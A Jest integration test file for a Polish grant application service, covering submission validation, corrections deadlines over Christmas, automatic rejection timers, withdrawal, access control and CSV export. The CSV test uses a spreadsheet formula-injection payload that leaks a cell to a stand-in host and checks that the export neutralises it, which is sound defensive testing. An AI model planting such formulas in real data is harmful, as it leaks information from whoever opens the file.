import { jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { ManualClock } from '@app/common';
import { startPlatform, type Platform } from '../support/platform.js';
import { PESELS, applicationForm, groupForm } from '../../apps/applications/test/form-fixtures.js';
import { EN, emitted, publishCall, runDueTimers } from './applications-fixtures.js';

jest.setTimeout(90_000);

const at = (iso: string) => new Date(iso);

/**
 * The job-creation grant application (docs/product.md#the-grant-application): submission, formal
 * check, corrections, withdrawal.
 */
describe('grant applications', () => {
  let platform: Platform;
  const clock = new ManualClock(at('2026-12-02T09:00:00+01:00'));
  const api = () => platform.api.applications;
  let callId: string;
  let applicant: { token: string; id: string; email: string };
  let operator: { token: string; id: string };

  beforeAll(async () => {
    platform = await startPlatform({
      clock,
      services: ['applications'],
      env: { applications: { TIMERS_POLL_MS: '300' } },
    });
    callId = (await publishCall(platform, { number: 'NAB/7/2026' })).callId;
    applicant = await platform.account('applicant', { name: 'Ewa Wnioskodawczyni' });
    operator = await platform.account('operator');
  });

  afterAll(async () => {
    await platform?.close();
  });

  beforeEach(() => {
    clock.set(at('2026-12-02T09:00:00+01:00'));
  });

  async function submitted(form: Record<string, unknown>, token = applicant.token) {
    const draft = await api().post('/api/applications', { callId, form }, token);
    expect(draft.status).toBe(201);
    const result = await api().post(`/api/applications/${draft.body.id}/submit`, {}, token);
    expect(result.body.errors ?? []).toEqual([]);
    expect(result.status).toBe(200);
    return result.body;
  }

  async function qualifiedGroup(): Promise<string> {
    const group = await api().post(
      '/api/initiative-groups',
      { form: groupForm() },
      applicant.token,
    );
    await api().post(`/api/initiative-groups/${group.body.id}/submit`, {}, applicant.token);
    const decided = await api().post(
      `/api/initiative-groups/${group.body.id}/decision`,
      { decision: 'qualified', reason: 'Zakwalifikowana' },
      operator.token,
    );
    expect(decided.status).toBe(200);
    return group.body.id;
  }

  it('computes the amount on the server, refuses client totals, and lists every problem at once', async () => {
    const sneaky = await api().post(
      '/api/applications',
      { callId, form: { ...applicationForm(3), total: 1 } },
      applicant.token,
    );
    expect(sneaky.status).toBe(400);
    expect(sneaky.body.errors).toEqual([{ path: 'form.total', message: 'Nieznane pole' }]);

    const form = applicationForm(3);
    (form.jobs as any[])[2].workingTime = '1/4';
    (form.budget as any[])[0].amount += 100;
    (form.declarations as any).truthful = false;
    const draft = await api().post('/api/applications', { callId, form }, applicant.token);
    expect(draft.status).toBe(201);
    const refused = await api().post(
      `/api/applications/${draft.body.id}/submit`,
      {},
      applicant.token,
    );
    expect(refused.status).toBe(422);
    expect(refused.body.errors).toEqual([
      { path: 'form.jobs[2].workingTime', message: expect.stringContaining('1/4 etatu') },
      { path: 'form.declarations.truthful', message: expect.stringContaining('Oświadczenie') },
    ]);
    const english = await api().post(
      `/api/applications/${draft.body.id}/submit`,
      {},
      applicant.token,
      EN,
    );
    expect(english.body.errors[0].message).toMatch(/severe or multiple disability/);
    expect(
      (await api().get(`/api/applications/${draft.body.id}`, applicant.token)).body,
    ).toMatchObject({ state: 'draft', reference: null });

    // Once the jobs are right the amount follows, and the budget is checked against it.
    (form.jobs as any[])[2].workingTime = '1/2';
    expect(
      (await api().patch(`/api/applications/${draft.body.id}`, { form }, applicant.token)).status,
    ).toBe(200);
    const budget = await api().post(
      `/api/applications/${draft.body.id}/submit`,
      {},
      applicant.token,
    );
    expect(budget.body.errors).toEqual([
      {
        path: 'form.budget',
        message: expect.stringContaining('105\u00a0636,00\u00a0zł (jest 105\u00a0637,00\u00a0zł)'),
      },
      { path: 'form.declarations.truthful', message: expect.stringContaining('Oświadczenie') },
    ]);

    (form.budget as any[])[0].amount -= 100;
    (form.declarations as any).truthful = true;
    expect(
      (await api().patch(`/api/applications/${draft.body.id}`, { form }, applicant.token)).status,
    ).toBe(200);
    const done = await api().post(`/api/applications/${draft.body.id}/submit`, {}, applicant.token);
    expect(done.status).toBe(200);
    expect(done.body.reference).toMatch(/^OWES\/2026\/\d{5}$/);
    expect(done.body.amount).toMatchObject({
      kind: 'unit-rates',
      ratesValidFrom: '2024-03-01',
      creation: 3 * 3_521_200,
      maintenance: 2 * 3_817_800 + 1_908_900,
      total: 3 * 3_521_200 + 2 * 3_817_800 + 1_908_900,
      totalFormatted: '201\u00a0081,00\u00a0zł',
    });
    expect(
      (await api().patch(`/api/applications/${draft.body.id}`, { form }, applicant.token)).status,
    ).toBe(409);
  });

  it('asks for corrections within working days (skipping Christmas), takes a new version with a diff, then accepts', async () => {
    const groupId = await qualifiedGroup();
    const form = applicationForm(2, {
      employment: undefined,
      applicant: {
        kind: 'initiative-group',
        groupId,
        name: 'Spółdzielnia Socjalna Zielony Płock',
        legalForm: 'social-cooperative',
        county: '1419',
        address: 'ul. Długa 5, 09-400 Płock',
      },
    });
    // Employees of no other application of the call: one person, one job (rules across
    // applications) would otherwise hold up the acceptance below.
    (form.jobs as any[]).forEach((job, i) => (job.person.pesel = PESELS[i]));
    const application = await submitted(form);

    clock.set(at('2026-12-18T10:00:00+01:00')); // Friday; the call closed on the 15th
    const check = await api().post(
      `/api/applications/${application.id}/formal-check`,
      {
        result: 'corrections',
        issues: [{ path: 'form.jobs[0].position', description: 'Doprecyzuj nazwę stanowiska' }],
      },
      operator.token,
    );
    expect(check.status).toBe(200);
    expect(check.body.state).toBe('corrections-requested');
    // Mon 21, Tue 22, Wed 23 (24–27: Christmas Eve, Christmas, weekend), Mon 28, Tue 29
    expect(check.body.corrections).toMatchObject({
      lastDay: '2026-12-29',
      termWorkingDays: 5,
      round: 1,
    });
    const requested = (
      await emitted(platform, 'applications.application.corrections-requested')
    ).filter((e) => e.payload.applicationId === application.id);
    expect(requested.map((e) => e.payload)).toEqual([
      expect.objectContaining({
        reference: application.reference,
        version: 1,
        issues: [{ path: 'form.jobs[0].position', description: 'Doprecyzuj nazwę stanowiska' }],
        termWorkingDays: 5,
        lastDay: '2026-12-29',
        deadline: '2026-12-29T23:59:59.999+01:00',
        applicant: expect.objectContaining({ email: applicant.email }),
      }),
    ]);
    expect(
      (
        await api().post(
          `/api/applications/${application.id}/formal-check`,
          { result: 'accepted' },
          operator.token,
        )
      ).status,
    ).toBe(409);

    clock.set(at('2026-12-22T12:00:00+01:00'));
    (form.jobs as any[])[0].position = 'Kucharz – szef kuchni';
    expect(
      (await api().patch(`/api/applications/${application.id}`, { form }, applicant.token)).status,
    ).toBe(200);
    const answered = await api().post(
      `/api/applications/${application.id}/submit`,
      {},
      applicant.token,
    );
    expect(answered.status).toBe(200);
    expect(answered.body).toMatchObject({
      state: 'submitted',
      version: 2,
      reference: application.reference,
      submittedAt: '2026-12-02T09:00:00.000+01:00',
    });
    expect(
      (await emitted(platform, 'applications.application.corrections-answered')).filter(
        (e) => e.payload.applicationId === application.id,
      ),
    ).toHaveLength(1);

    const versions = await api().get(
      `/api/applications/${application.id}/versions`,
      applicant.token,
    );
    expect(versions.body.items.map((v: any) => [v.version, v.changes])).toEqual([
      [1, null],
      [
        2,
        [
          {
            path: 'jobs[0].position',
            kind: 'changed',
            before: 'Stanowisko 1',
            after: 'Kucharz – szef kuchni',
          },
        ],
      ],
    ]);

    const secondRound = await api().post(
      `/api/applications/${application.id}/formal-check`,
      { result: 'corrections', issues: [{ description: 'Jeszcze raz' }] },
      operator.token,
    );
    expect(secondRound.status).toBe(409);
    expect(secondRound.body.code).toBe('NO_CORRECTION_ROUNDS_LEFT');

    const accepted = await api().post(
      `/api/applications/${application.id}/formal-check`,
      { result: 'accepted' },
      operator.token,
    );
    expect(accepted.status).toBe(200);
    expect(accepted.body.state).toBe('formally-accepted');
    const [event] = (await emitted(platform, 'applications.application.formally-accepted')).filter(
      (e) => e.payload.applicationId === application.id,
    );
    expect(event.payload).toMatchObject({
      reference: application.reference,
      callId,
      version: 2,
      applicantKind: 'initiative-group',
      entityName: 'Spółdzielnia Socjalna Zielony Płock',
      county: '1419',
      amount: { creation: 7_042_400, maintenance: 7_635_600, total: 14_678_000 },
      recruitedBy: [operator.id],
      jobs: [
        {
          jobId: '1',
          position: 'Kucharz – szef kuchni',
          workingTime: '1',
          eligiblePerson: true,
          plannedStart: '2027-02-01',
          county: '1462',
        },
        {
          jobId: '2',
          position: 'Stanowisko 2',
          workingTime: '1',
          eligiblePerson: true,
          plannedStart: '2027-02-01',
          county: '1462',
        },
      ],
    });
    expect(Object.keys(event.payload.businessPlan).sort()).toEqual([
      'finances',
      'market',
      'marketing',
      'organisation',
      'socialImpact',
      'summary',
    ]);
    expect(PESELS.some((pesel) => JSON.stringify(event).includes(pesel))).toBe(false);

    expect(
      (await api().post(`/api/applications/${application.id}/withdraw`, {}, applicant.token))
        .status,
    ).toBe(409);
    const audit = await api().get(
      `/api/audit?entityType=application&entityId=${application.id}`,
      (await platform.account('platform-admin')).token,
    );
    expect(audit.body.items.map((e: any) => e.action).sort()).toEqual([
      'corrections-answered',
      'created',
      'formal-check.accepted',
      'formal-check.corrections',
      'submitted',
    ]);
  });

  it('rejects the form automatically when the correction term lapses — a durable timer that survives a restart', async () => {
    const lapsing = await submitted(applicationForm(1));
    const answering = await submitted(applicationForm(1));
    clock.set(at('2026-12-18T10:00:00+01:00'));
    for (const a of [lapsing, answering]) {
      const check = await api().post(
        `/api/applications/${a.id}/formal-check`,
        { result: 'corrections', issues: [{ description: 'Brak podpisu' }] },
        operator.token,
      );
      expect(check.status).toBe(200);
    }

    await platform.restart('applications', { TIMERS_POLL_MS: '0' });

    clock.set(at('2026-12-29T23:59:59.000+01:00')); // last second of the term
    await runDueTimers(platform);
    expect((await api().get(`/api/applications/${lapsing.id}`, applicant.token)).body.state).toBe(
      'corrections-requested',
    );
    expect(
      (await api().post(`/api/applications/${answering.id}/submit`, {}, applicant.token)).status,
    ).toBe(200);

    clock.set(at('2026-12-30T00:00:00.000+01:00'));
    expect(
      (await api().post(`/api/applications/${lapsing.id}/submit`, {}, applicant.token)).body.code,
    ).toBe('CORRECTION_TERM_PASSED');
    expect(await runDueTimers(platform)).toBe(1);
    expect(await runDueTimers(platform)).toBe(0);

    const rejected = await api().get(`/api/applications/${lapsing.id}`, applicant.token);
    expect(rejected.body).toMatchObject({
      state: 'formally-rejected',
      decision: { automatic: true },
    });
    expect((await api().get(`/api/applications/${answering.id}`, applicant.token)).body.state).toBe(
      'submitted',
    );
    const events = (await emitted(platform, 'applications.application.formally-rejected')).filter(
      (e) => e.payload.applicationId === lapsing.id,
    );
    expect(events.map((e) => e.payload)).toEqual([
      expect.objectContaining({
        automatic: true,
        reasons: ['Nie uzupełniono braków formalnych w wyznaczonym terminie'],
      }),
    ]);
    const audit = await api().get(
      `/api/audit?entityId=${lapsing.id}`,
      (await platform.account('platform-admin')).token,
    );
    expect(audit.body.items[0]).toMatchObject({
      action: 'formal-check.rejected-automatically',
      actorId: null,
      toState: 'formally-rejected',
    });
  });

  it('lets an operator reject with reasons, and refuses a check without them', async () => {
    const a = await submitted(applicationForm(1));
    expect(
      (
        await api().post(
          `/api/applications/${a.id}/formal-check`,
          { result: 'rejected' },
          operator.token,
        )
      ).status,
    ).toBe(400);
    expect(
      (
        await api().post(
          `/api/applications/${a.id}/formal-check`,
          { result: 'corrections', issues: [] },
          operator.token,
        )
      ).status,
    ).toBe(400);
    expect(
      (
        await api().post(
          `/api/applications/${a.id}/formal-check`,
          { result: 'accepted' },
          applicant.token,
        )
      ).status,
    ).toBe(403);
    const rejected = await api().post(
      `/api/applications/${a.id}/formal-check`,
      { result: 'rejected', reasons: ['Wniosek złożony przez podmiot spoza obszaru'] },
      operator.token,
    );
    expect(rejected.status).toBe(200);
    expect(rejected.body.decision).toMatchObject({
      reasons: ['Wniosek złożony przez podmiot spoza obszaru'],
      automatic: false,
    });
    const [event] = (await emitted(platform, 'applications.application.formally-rejected')).filter(
      (e) => e.payload.applicationId === a.id,
    );
    expect(event.payload).toMatchObject({
      automatic: false,
      reasons: ['Wniosek złożony przez podmiot spoza obszaru'],
    });
  });

  it('withdraws before the decision (once), and keeps another applicant out', async () => {
    const draft = await api().post('/api/applications', { callId, form: {} }, applicant.token);
    const withdrawnDraft = await api().post(
      `/api/applications/${draft.body.id}/withdraw`,
      {},
      applicant.token,
    );
    expect(withdrawnDraft.body).toMatchObject({ state: 'withdrawn', reference: null });

    const a = await submitted(applicationForm(1));
    const other = await platform.account('applicant');
    const evaluator = await platform.account('evaluator');
    for (const path of [`/api/applications/${a.id}/withdraw`, `/api/applications/${a.id}/submit`]) {
      expect((await api().post(path, {}, other.token)).status).toBe(404);
    }
    expect((await api().get(`/api/applications/${a.id}/versions`, other.token)).status).toBe(404);
    expect((await api().get(`/api/applications/${a.id}`, evaluator.token)).status).toBe(403);
    expect((await api().get('/api/applications', evaluator.token)).status).toBe(403);

    expect(
      (await api().post(`/api/applications/${a.id}/withdraw`, {}, applicant.token)).body.state,
    ).toBe('withdrawn');
    expect(
      (await api().post(`/api/applications/${a.id}/withdraw`, {}, applicant.token)).status,
    ).toBe(200);
    const events = (await emitted(platform, 'applications.application.withdrawn')).filter((e) =>
      [a.id, draft.body.id].includes(e.payload.applicationId),
    );
    expect(events.map((e) => e.payload.reference)).toEqual(
      expect.arrayContaining([null, a.reference]),
    );
    expect(events).toHaveLength(2);
    expect(
      (
        await api().post(
          `/api/applications/${a.id}/formal-check`,
          { result: 'accepted' },
          operator.token,
        )
      ).status,
    ).toBe(409);
  });

  it('lists for operators with filters and pagination, and exports CSV with Polish headers, a BOM and formulas neutralised', async () => {
    const other = await platform.account('applicant');
    const named = await submitted(
      applicationForm(1, {
        applicant: {
          ...(applicationForm(1).applicant as object),
          name: 'Fundacja Nadzieja 100%',
          county: '1427',
        },
      }),
      other.token,
    );

    const byCounty = await api().get(
      `/api/applications?callId=${callId}&county=1427`,
      operator.token,
    );
    expect(byCounty.body.items.map((a: any) => a.id)).toEqual([named.id]);
    const byName = await api().get(
      `/api/applications?q=${encodeURIComponent('nadzieja 100%')}`,
      operator.token,
    );
    expect(byName.body.items.map((a: any) => a.id)).toEqual([named.id]);
    const byReference = await api().get(
      `/api/applications?q=${encodeURIComponent(named.reference)}`,
      operator.token,
    );
    expect(byReference.body.items.map((a: any) => a.id)).toEqual([named.id]);
    expect((await api().get('/api/applications?q=100_', operator.token)).body.items).toEqual([]);
    const submittedPage = await api().get(
      '/api/applications?state=submitted&pageSize=1&page=1',
      operator.token,
    );
    expect(submittedPage.body.items).toHaveLength(1);
    expect(submittedPage.body.total).toBeGreaterThanOrEqual(2);
    expect(
      (await api().get('/api/applications', other.token)).body.items.map((a: any) => a.id),
    ).toEqual([named.id]);
    expect((await api().get('/api/applications?county=Płock', operator.token)).status).toBe(400);
    const formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")';
    const injecting = await submitted(
      applicationForm(1, {
        applicant: { ...(applicationForm(1).applicant as object), name: formula },
      }),
      (await platform.account('applicant')).token,
    );

    const response = await fetch(`${api().url}/api/applications/export.csv?callId=${callId}`, {
      headers: { authorization: `Bearer ${operator.token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = Buffer.from(bytes.slice(3)).toString('utf8');
    expect(text.split('\r\n')[0]).toMatch(/^Numer wniosku,Nabór,/);
    const rows: string[][] = parse(text);
    expect(rows[0]).toEqual([
      'Numer wniosku',
      'Nabór',
      'Stan',
      'Wnioskodawca',
      'Rodzaj wnioskodawcy',
      'Kod powiatu (TERYT)',
      'Powiat',
      'Liczba miejsc pracy',
      'Wnioskowana kwota (zł)',
      'Wnioskowana kwota',
      'Data złożenia',
      'Wersja',
    ]);
    expect(rows.find((r) => r[0] === named.reference)).toEqual([
      named.reference,
      'NAB/7/2026',
      'złożony',
      'Fundacja Nadzieja 100%',
      'przedsiębiorstwo społeczne',
      '1427',
      'sierpecki',
      '1',
      '73390,00',
      '73\u00a0390,00\u00a0zł',
      '2026-12-02T09:00:00.000+01:00',
      '1',
    ]);
    expect(rows.every((r) => r[2] !== 'roboczy')).toBe(true);
    // an applicant's text that a spreadsheet would run as a formula comes out as text
    expect(rows.find((r) => r[0] === injecting.reference)?.[3]).toBe(`'${formula}`);
    expect(
      (await api().get(`/api/applications/export.csv?callId=${callId}`, applicant.token)).status,
    ).toBe(403);
  });
});
